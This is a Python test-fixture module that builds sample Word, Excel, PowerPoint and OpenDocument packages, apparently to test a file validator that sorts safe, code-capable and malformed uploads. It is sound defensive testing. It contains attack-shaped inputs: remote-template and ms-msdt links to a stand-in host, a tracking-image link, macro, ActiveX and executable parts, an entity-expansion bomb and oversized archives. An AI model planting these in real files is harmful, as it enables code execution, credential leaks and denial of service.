"""Letters and tables as office programs write them, and bent ones. Made here: nothing of anybody's."""

from collections.abc import Mapping
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

OPEN_XML = "application/vnd.openxmlformats-officedocument."
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN: Mapping[str, tuple[str, str]] = {
    "docx": ("word/document.xml", f"{OPEN_XML}wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{OPEN_XML}spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{OPEN_XML}presentationml.presentation.main+xml"),
}
ODF: Mapping[str, str] = {
    "odt": "application/vnd.oasis.opendocument.text",
    "ods": "application/vnd.oasis.opendocument.spreadsheet",
    "odp": "application/vnd.oasis.opendocument.presentation",
}


def archive(parts: Mapping[str, bytes | str], stored: tuple[str, ...] = ()) -> bytes:
    made = BytesIO()
    with ZipFile(made, "w") as opened:
        for name, content in parts.items():
            info = ZipInfo(name)
            info.compress_type = ZIP_STORED if name in stored else ZIP_DEFLATED
            opened.writestr(info, content)
    return made.getvalue()


def open_xml(kind: str = "docx", *, types: str = "", main: str = "", **more: bytes | str) -> bytes:
    """`types`: further lines of the list of parts; `main`: another kind for the main part; `more`: further parts."""
    part, usual = MAIN[kind]
    listed = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{main or usual}"/>{types}</Types>'
    )
    parts = {
        "[Content_Types].xml": listed,
        "_rels/.rels": relations(("officeDocument", part, "")),
        part: "<w>Geachte heer, mevrouw</w>",
    }
    return archive({**parts, **more})


def relations(*each: tuple[str, str, str]) -> str:
    """Kind, target and mode of each."""
    told = "".join(
        f'<Relationship Id="r{place}" Type="{RELATION}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for place, (kind, target, mode) in enumerate(each)
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{told}</Relationships>'


def linked(kind: str, target: str) -> bytes:
    """A letter that points at something outside."""
    return open_xml(**{"word/_rels/settings.xml.rels": relations((kind, target, "External"))})


def odf(kind: str = "odt", *, entries: str = "", head: str = "", **more: bytes | str) -> bytes:
    told = ODF[kind]
    manifest = (
        f'<?xml version="1.0" encoding="UTF-8"?>{head}'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{told}"/>{entries}</manifest:manifest>'
    )
    parts = {"mimetype": told, "content.xml": "<x>Beste buren</x>", "META-INF/manifest.xml": manifest}
    return archive({**parts, **more}, stored=("mimetype",))


def kept() -> Mapping[str, tuple[bytes, str]]:
    """Each with the ending that it is served under."""
    theme = f'<Override PartName="/word/theme/theme1.xml" ContentType="{OPEN_XML}theme+xml"/>'
    printer = f'<Default Extension="bin" ContentType="{OPEN_XML}spreadsheetml.printerSettings"/>'
    older = '<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd">'
    pages = {"word/_rels/document.xml.rels": relations(("hyperlink", "https://www.example.nl/huur", "External"))}
    beside = relations(("externalLinkPath", "b.xlsx", "External"))
    return {
        "letter": (open_xml(), "docx"),
        "with a theme": (open_xml(types=theme, **{"word/theme/theme1.xml": "<t/>"}), "docx"),
        "with a link": (open_xml(**pages), "docx"),
        "begun with a template at the office": (linked("attachedTemplate", r"file:///C:\Sjablonen\brief.dotx"), "docx"),
        "with a chart": (open_xml(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": open_xml("xlsx")}), "docx"),
        "table": (open_xml("xlsx", types=printer, **{"xl/printerSettings/printerSettings1.bin": b"\x00"}), "xlsx"),
        "table that reads another": (open_xml("xlsx", **{"xl/externalLinks/_rels/a.xml.rels": beside}), "xlsx"),
        "slides": (open_xml("pptx"), "pptx"),
        **{f"free {kind}": (odf(kind), kind) for kind in ODF},
        "free and old": (odf(head=older), "odt"),
    }  # fmt: skip


def could_run() -> Mapping[str, bytes]:
    word = "application/vnd.ms-word."
    secret = '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
    ole = (
        '<manifest:file-entry manifest:full-path="Object 1" manifest:media-type="application/vnd.sun.star.oleobject"/>'
    )
    sheet4 = '<Override PartName="/xl/macrosheets/s.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
    return {
        "docm": open_xml(main=f"{word}document.macroEnabled.main+xml"),
        "docm called docx": open_xml(**{"word/vbaProject.bin": b"\x00"}),
        "part of another name": open_xml(
            types='<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        ),
        "old macro sheet": open_xml("xlsx", types=sheet4),
        "control": open_xml(**{"word/activeX/activeX1.xml": "<a/>"}),
        "object": open_xml(**{"word/embeddings/oleObject1.bin": b"MZ"}),
        "package": open_xml(**{"word/embeddings/factuur.exe": b"MZ"}),
        "template from elsewhere": linked("attachedTemplate", "https://kwaad.example/t.dotm"),
        "template of a share": linked("attachedTemplate", r"\\kwaad.example\t.dotm"),
        "template of a share, as a file": linked("attachedTemplate", "file://kwaad.example/t.dotm"),
        "picture that tells who looks": linked("image", "http://kwaad.example/1.png"),
        "program by name": linked("oleObject", "ms-msdt:/id"),
        "free with basic": odf(**{"Basic/Standard/Module1.xml": "<m/>"}),
        "free with a script": odf(**{"Scripts/python/a.py": "import os"}),
        "free with an object": odf(entries=ole),
        "free behind a password": odf(entries=secret),
        "of before 2007, or behind a password": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "rich text": rb"{\rtf1\ansi brief}",
    }


def no_paper() -> Mapping[str, bytes]:
    bomb = '<!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    letter = open_xml()
    return {
        "any archive": archive({"brief.pdf": b"%PDF-", "virus.exe": b"MZ"}),
        "an app": archive({"META-INF/MANIFEST.MF": "x", "classes.dex": b"dex"}),
        "another program's": archive({"Index/Document.iwa": b"x"}),
        "a book": archive({"mimetype": "application/epub+zip", "META-INF/container.xml": "<c/>"}, ("mimetype",)),
        "a template": open_xml(main=f"{OPEN_XML}wordprocessingml.template.main+xml"),
        "two main parts": open_xml(types='<Override PartName="/b.xml" ContentType="{MAIN["xlsx"][1]}"/>'),
        "entities": archive({"[Content_Types].xml": f"<?xml version='1.0'?>{bomb}<Types>&b;</Types>"}),
        "no list": archive({"[Content_Types].xml": "<Types>"}),
        "an endless list": archive({"[Content_Types].xml": b"<Types>" + b" " * 3_000_000 + b"</Types>"}),
        "so many parts": archive({f"{n}": b"" for n in range(3100)}),
        "broken off": letter[: len(letter) // 2],
        "bent": letter.replace(b"[Content_Types].xml", b"[Content_Types].xmk", 1),
        "only a beginning": b"PK\x03\x04" + bytes(40),
        "compressed ODF name": archive({"mimetype": ODF["odt"], "META-INF/manifest.xml": "<m/>"}),
    }
